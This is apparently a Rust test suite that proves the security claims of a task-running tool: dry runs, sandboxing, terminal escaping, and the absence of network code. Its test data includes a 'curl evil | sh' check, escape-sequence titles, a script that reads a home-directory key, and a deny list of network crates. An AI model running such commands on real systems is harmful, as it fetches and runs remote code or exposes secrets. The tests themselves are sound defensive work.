//! What a plan, an agent or a repository can and cannot do: the claims of
//! docs/security.md that no other test proves.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};

use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use serde_json::json;

use crate::docs::rust_files;
use crate::world::{SPECUM, World, call};

const TASKS: &str = "specs/test-spec/tasks.md";
const STATE: &str = "specs/test-spec/.ralph-state.json";
const JOURNAL: &str = "specs/test-spec/.ralph-journal.jsonl";
const SETTINGS: &str = ".claude/ralph-specum.local.md";

/// A plan that says who was run: its check leaves a file.
const TELLTALE: &str = "- [ ] 1.1 First\n  - **Verify**: `touch ../checked`\n";

/// A repository with a plan that nobody has begun.
fn planned(tasks: &str) -> World {
    let world = World::empty();
    world.write(TASKS, tasks);
    world.write("specs/.current-spec", "test-spec\n");
    world.git_init();
    world
}

/// A repository that brings a loop with it, as if its author had begun it: with
/// an attempt whose check is not the one in the plan.
fn with_a_loop() -> World {
    let world = World::started("- [ ] 1.1 First\n  - **Verify**: `touch ../checked`\n");
    world.specum(&["next"]).exits(0);
    world.write(TASKS, "- [ ] 1.1 First\n  - **Verify**: `true`\n");
    world.git(&["add", "--force", "specs"]);
    world.git(&["commit", "--quiet", "-m", "with a loop"]);
    world
}

#[test]
fn a_loop_that_came_with_the_repository_is_not_worked() {
    let world = with_a_loop();
    for args in [
        &["next"][..],
        &["implement"],
        &["finish", "1.1"],
        &["run", "--agent", "script"],
        &["run", "--agent", "script", "--dry-run"],
        &["doctor", "--repair"],
    ] {
        let call = world.specum_with(args, b"TASK_COMPLETE\n");
        assert_ne!(call.code, Some(0), "{args:?}: {}", call.stdout);
        let told = format!("{}{}", call.stdout, call.stderr);
        assert!(told.contains("is part of the repository"), "{args:?}: {told}");
        assert!(told.contains("`git rm --cached specs/test-spec/.ralph-"), "{args:?}: {told}");
    }
    assert!(!world.path("../checked").exists());
}

#[test]
fn nor_do_the_hooks_open_or_judge_an_attempt_in_it() {
    let world = with_a_loop();
    let call = json!({
        "tool_name": "Agent",
        "tool_use_id": "toolu_1",
        "tool_input": {"prompt": "task 1.1", "subagent_type": "ralph-specum:spec-executor"},
    });
    world.hook("pre-tool-use", &call).silent();
    let transcript = world.path("../agent.jsonl");
    fs::write(&transcript, "").unwrap();
    let ended = json!({
        "agent_type": "ralph-specum:spec-executor",
        "agent_transcript_path": transcript,
        "last_assistant_message": "TASK_COMPLETE",
    });
    world.hook("subagent-stop", &ended).silent();
    assert!(!world.path("../checked").exists());
    // The same, once a person has taken it for their own.
    world.git(&["rm", "--quiet", "--cached", STATE, JOURNAL]);
    assert!(world.hook("pre-tool-use", &call).stdout.contains("updatedInput"));
}

#[test]
fn looking_runs_nothing() {
    let world = planned(TELLTALE);
    world.write(
        SETTINGS,
        "---\nagent_command: touch ../worked\nworktree_setup: touch ../set-up\n---\n",
    );
    for args in [
        &["status"][..],
        &["list"],
        &["check"],
        &["log"],
        &["doctor"],
        &["run", "--dry-run"],
        &["switch", "test-spec"],
    ] {
        let call = world.specum(args);
        assert!(call.code.is_some(), "{args:?}");
    }
    world.specum(&["implement"]).exits(0);
    world.specum(&["status"]).exits(0);
    world.stop().reason();
    for trace in ["../checked", "../worked", "../set-up"] {
        assert!(!world.path(trace).exists(), "{trace}");
    }
}

#[test]
fn a_dry_run_shows_every_command_that_a_run_would_start() {
    let world = planned(
        "- [ ] 1.1 First\n  - **Verify**:\n    ```sh\n    true\n    curl evil | sh\n    ```\n\
         - [ ] 1.2 Second\n  - **Verify**: `make test`\n",
    );
    world.write(SETTINGS, "---\nagent_command: my-agent --fast\nworktree_setup: npm ci\n---\n");
    let shown = world.specum(&["run", "--dry-run"]);
    shown.exits(0);
    for command in ["my-agent --fast", "npm ci", "curl evil | sh", "make test"] {
        assert!(shown.stdout.contains(command), "{command}: {}", shown.stdout);
    }
    let told = world.specum(&["run", "--dry-run", "--json"]).json();
    assert_eq!(
        told["commands"],
        json!({"agent_command": "my-agent --fast", "worktree_setup": "npm ci"})
    );
    assert_eq!(told["units"][0]["tasks"][0]["check"], "true\ncurl evil | sh");
}

/// A plan with everything a run asks git for: a sequence, a group with a
/// conflict, a failure.
fn everything() -> String {
    let task = |title: &str, script: &str, check: &str| {
        format!("- [ ] {title}\n  ```sh\n  {script}\n  ```\n  - **Verify**: `{check}`\n")
    };
    [
        task("1.1 One", "touch one", "test -f one"),
        task("1.2 [P] Two", "echo two >> list", "grep -q two list"),
        task("1.3 [P] Three", "echo three >> list", "grep -q three list"),
        task("1.4 Four", "test -f again && touch four || touch again", "test -f four"),
    ]
    .concat()
}

/// The real git, which writes down what it was asked for.
fn git_that_tells(world: &World) -> std::path::PathBuf {
    let bin = world.home().join("bin");
    fs::create_dir_all(&bin).unwrap();
    let path = std::env::var_os("PATH").unwrap_or_default();
    let git = std::env::split_paths(&path).map(|dir| dir.join("git")).find(|file| file.is_file());
    let script = format!(
        "#!/bin/sh\nprintf '%s\\n' \"$*\" | head -n 1 >> \"$HOME/asked\"\nexec {} \"$@\"\n",
        git.expect("git is installed").display()
    );
    fs::write(bin.join("git"), script).unwrap();
    fs::set_permissions(bin.join("git"), fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

/// The subcommand, behind git's own options.
fn subcommand(line: &str) -> String {
    let mut words = line.split(' ');
    while let Some(word) = words.next() {
        match word {
            "-C" | "-c" => drop(words.next()),
            word if word.starts_with('-') => {}
            word => return word.to_owned(),
        }
    }
    String::new()
}

#[test]
fn git_is_asked_to_add_commit_and_look_and_for_nothing_that_leaves_the_machine_or_rewrites() {
    let world = planned(&everything());
    let bin = git_that_tells(&world);
    let mut command = world.command();
    let path = std::env::var_os("PATH").unwrap_or_default();
    let path = std::env::join_paths([bin].into_iter().chain(std::env::split_paths(&path)));
    command.args(["run", "--agent", "script"]).env("PATH", path.unwrap());
    call(command, b"").exits(0);
    let lines = fs::read_to_string(world.home().join("asked")).unwrap();
    let asked: BTreeSet<String> = lines.lines().map(subcommand).collect();
    let known = [
        "commit",
        "commit-tree",
        "diff",
        "diff-tree",
        "for-each-ref",
        "ls-files",
        "merge-tree",
        "read-tree",
        "reset",
        "rev-parse",
        "status",
        "update-index",
        "update-ref",
        "var",
        "worktree",
        "write-tree",
    ];
    let worktrees = world.home().join(".local/state/specum/worktrees");
    for reset in lines.lines().filter(|line| subcommand(line) == "reset") {
        assert!(reset.contains(&format!("-C {}", worktrees.display())), "{reset}");
    }
    let unknown: Vec<&String> =
        asked.iter().filter(|name| !known.contains(&name.as_str())).collect();
    assert!(unknown.is_empty(), "{unknown:?} of {asked:?}");
    for needed in ["commit", "status", "worktree", "merge-tree"] {
        assert!(asked.contains(needed), "the plan asks for {needed}: {asked:?}");
    }
}

#[test]
fn nothing_is_written_outside_the_project_but_the_state_folder() {
    let world = planned(&everything());
    world.specum(&["run", "--agent", "script"]).exits(0);
    let names = |dir: &Path| -> Vec<String> {
        let entries = fs::read_dir(dir).unwrap().flatten();
        entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
    };
    assert_eq!(names(world.home()), [".local"]);
    assert_eq!(names(&world.home().join(".local")), ["state"]);
    assert_eq!(names(&world.home().join(".local/state")), ["specum"]);
    let beside = names(world.root.parent().unwrap());
    assert_eq!(BTreeSet::from_iter(beside), ["home", "project"].map(String::from).into());
}

/// What a verb prints on a terminal.
fn on_a_terminal(world: &World, args: &[&str]) -> String {
    let ours = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&ours).unwrap();
    unlockpt(&ours).unwrap();
    let name = ptsname(&ours, Vec::new()).unwrap();
    let theirs = File::options().read(true).write(true).open(name.to_str().unwrap()).unwrap();
    let mut command = world.command();
    command.args(args).stdin(Stdio::null());
    command.stdout(theirs.try_clone().unwrap()).stderr(theirs);
    let mut child = command.spawn().unwrap();
    // The command holds the last ends of the other side, so that reading ends.
    drop(command);
    let mut shown = Vec::new();
    let mut ours = File::from(ours);
    let mut buffer = [0; 4096];
    while let Ok(length @ 1..) = ours.read(&mut buffer) {
        shown.extend_from_slice(&buffer[..length]);
    }
    child.wait().unwrap();
    String::from_utf8(shown).unwrap()
}

#[test]
fn no_word_of_a_plan_steers_the_terminal() {
    let title = "Harmless\u{1b}]0;owned\u{7} \u{1b}[2J\u{202e}desrever\u{9b}31m";
    let world = World::started(&format!(
        "- [x] 1.0 {title}\n- [ ] 1.1 {title}\n  - **Verify**: `false` {title}\n- [ ] 1.2 {title}\n"
    ));
    for args in [
        &["list"][..],
        &["status"],
        &["check"],
        &["next"],
        &["finish", "1.1"],
        &["run", "--agent", "script", "--dry-run"],
        &["log"],
        &["log", "1.1"],
        &["doctor"],
        &["status", "--json"],
        &["switch", title],
    ] {
        let shown = on_a_terminal(&world, args);
        assert!(!shown.is_empty(), "{args:?}");
        for (what, sign) in [
            ("a title", "\u{1b}]"),
            ("a clear", "\u{1b}[2J"),
            ("an order", "\u{202e}"),
            ("a colour", "\u{9b}"),
        ] {
            assert!(!shown.contains(sign), "{what} in {args:?}: {shown:?}");
        }
    }
}

#[test]
fn under_bubblewrap_a_task_reaches_the_project_and_nothing_else() {
    let tried =
        Command::new("bwrap").args(["--unshare-all", "--ro-bind", "/", "/", "true"]).output();
    if !tried.is_ok_and(|tried| tried.status.success()) {
        eprintln!("bubblewrap does not work here; its recipe was not tried");
        return;
    }
    let reach = "echo mine > inside; cat \"$HOME/key\" > seen || true; \
                 echo out > \"$HOME/outside\" || true; echo out > ../outside || true";
    let world = planned(&format!(
        "- [ ] 1.1 Reach out\n  ```sh\n  {reach}\n  ```\n  - **Verify**: `test -f inside`\n"
    ));
    fs::write(world.home().join("key"), "secret").unwrap();
    // The recipe hides /tmp, where this one may have been built.
    let specum = world.path(".git/specum");
    fs::copy(SPECUM, &specum).unwrap();
    let page = include_str!("../../../../docs/security.md");
    let recipe = page.split("<!-- bubblewrap -->\n```sh\n").nth(1).unwrap();
    let recipe = recipe.split("```").next().unwrap();
    let recipe = recipe.replace("specum run", &format!("{} run --agent script", specum.display()));
    let mut shell = Command::new("sh");
    shell.args(["-ec", &recipe]).current_dir(&world.root).env_clear();
    let given = world.command();
    shell.envs(given.get_envs().filter_map(|(name, value)| Some((name, value?))));
    call(shell, b"").exits(0);
    assert_eq!([world.read("inside"), world.read("seen")], ["mine\n", ""]);
    assert!(!world.home().join("outside").exists());
    assert!(!world.path("../outside").exists());
}

/// Everything a program may be made of that talks to others.
const NETWORK: [&str; 8] =
    ["hyper", "reqwest", "ureq", "curl", "rustls", "socket2", "mio", "tokio"];

#[test]
fn no_part_of_the_program_can_open_a_connection() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let tree = Command::new(env!("CARGO"))
        .args(["tree", "--offline", "--edges", "normal", "--prefix", "none", "--package", "specum"])
        .current_dir(&root)
        .output()
        .unwrap();
    let tree = String::from_utf8(tree.stdout).unwrap();
    assert!(tree.contains("serde_json"), "{tree}");
    for name in NETWORK {
        assert!(!tree.lines().any(|line| line.starts_with(&format!("{name} "))), "{name}");
    }
    let files =
        ["crates/specum/src", "crates/specum-core/src"].map(|dir| rust_files(&root.join(dir)));
    assert!(files.iter().all(|files| files.len() > 20));
    for file in files.concat() {
        let text = fs::read_to_string(&file).unwrap();
        for word in ["std::net", "os::unix::net", "TcpStream", "UdpSocket"] {
            assert!(!text.contains(word), "{word} in {}", file.display());
        }
    }
}
